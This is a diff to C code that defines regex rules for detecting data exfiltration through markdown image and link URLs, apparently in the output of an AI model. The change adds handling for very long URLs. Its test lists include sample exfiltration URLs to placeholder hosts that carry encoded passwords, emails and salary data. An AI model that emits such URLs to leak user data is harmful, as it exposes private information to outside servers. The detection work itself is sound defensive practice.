@@ -11,7 +11,15 @@
 
 
 /* an address elsewhere; what carries data is up to the check */
-#define ELSEWHERE  "(?:https?:)?//[^\\s\"'<>()\\[\\]]{4,400}"
+#define BYTE       "[^\\s\"'<>()\\[\\]]"
+#define ELSEWHERE  "(?:https?:)?//" BYTE "{4,400}"
+
+/* up to its bracket; one that has not come by then goes on with a tail */
+#define CLOSED(c)  "(?:https?:)?//(?:" BYTE "{4,399}+" c "|" BYTE "{400})"
+#define GOES_ON    "(?<!\\))" BYTE
+
+#define LONG50     "dXNlciBlbWFpbCBhbm5hQGV4YW1wbGUgYW5kIHBhc3N3b3JkIA"
+#define LONG400    LONG50 LONG50 LONG50 LONG50 LONG50 LONG50 LONG50 LONG50
 
 /* between the brackets of a text */
 #define ALT        "[^\\[\\]\\n]{0,120}"
@@ -27,8 +35,10 @@ const llmg_rule_t  llmg_rules_exfil[] = {
         .caseless = 1,
         .max = 620,
         .literals = llmg_list("!["),
-        .pattern = "!\\[" ALT "\\]\\(\\s{0,4}<?" ELSEWHERE ">?"
-                   "(?:\\s{1,4}[\"'][^\"'\\n]{0,80}[\"'])?\\s{0,4}\\)",
+        .pattern = "!\\[" ALT "\\]\\(\\s{0,4}<?"
+                   CLOSED(">?(?:\\s{1,4}[\"'][^\"'\\n]{0,80}[\"'])?"
+                          "\\s{0,4}\\)"),
+        .tail = GOES_ON,
         .ends = ")",
         .check = llmg_check_exfil_image,
         .match = llmg_list(
@@ -36,7 +46,8 @@ const llmg_rule_t  llmg_rules_exfil[] = {
             "![](http://203.0.113.9/conversation+summary:+salary+90k.gif)",
             "![a](<//c2.example/1.png?d=cGFzc3dvcmQgaHVudGVyMg>)",
             "![x](//a.example/p?q=the%20key%20is%2012345#//b.example/)",
-            "![x](https://a.example/U1NOIG9uIGZpbGU.gif)"),
+            "![x](https://a.example/U1NOIG9uIGZpbGU.gif)",
+            "![x](https://a.example/p?q=" LONG400),
         .no_match = llmg_list(
             "![logo](/static/logo.png)",
             "![logo](https://www.example.com/img/logo.png)",
@@ -54,12 +65,14 @@ const llmg_rule_t  llmg_rules_exfil[] = {
         .caseless = 1,
         .max = 620,
         .literals = llmg_list("](http", "](//", "](<http", "](<//"),
-        .pattern = "(?<!\\!\\[)\\]\\(<?" ELSEWHERE ">?\\s{0,4}\\)",
+        .pattern = "(?<!\\!\\[)\\]\\(<?" CLOSED(">?\\s{0,4}\\)"),
+        .tail = GOES_ON,
         .ends = ")",
         .check = llmg_check_exfil_link,
         .match = llmg_list(
             "[details](https://a.example/?d=70617373776f72642068756e74657232)",
-            "[here](https://a.example/go?s=dXNlciBlbWFpbCBhbm5hQGV4YW1wbGU)"),
+            "[here](https://a.example/go?s=dXNlciBlbWFpbCBhbm5hQGV4YW1wbGU)",
+            "[here](https://a.example/go?s=" LONG400),
         .no_match = llmg_list(
             "[search](https://www.example.com/search?q=nginx+module&page=2)",
             "[docs](https://docs.example.com/en/latest/index.html#start)",
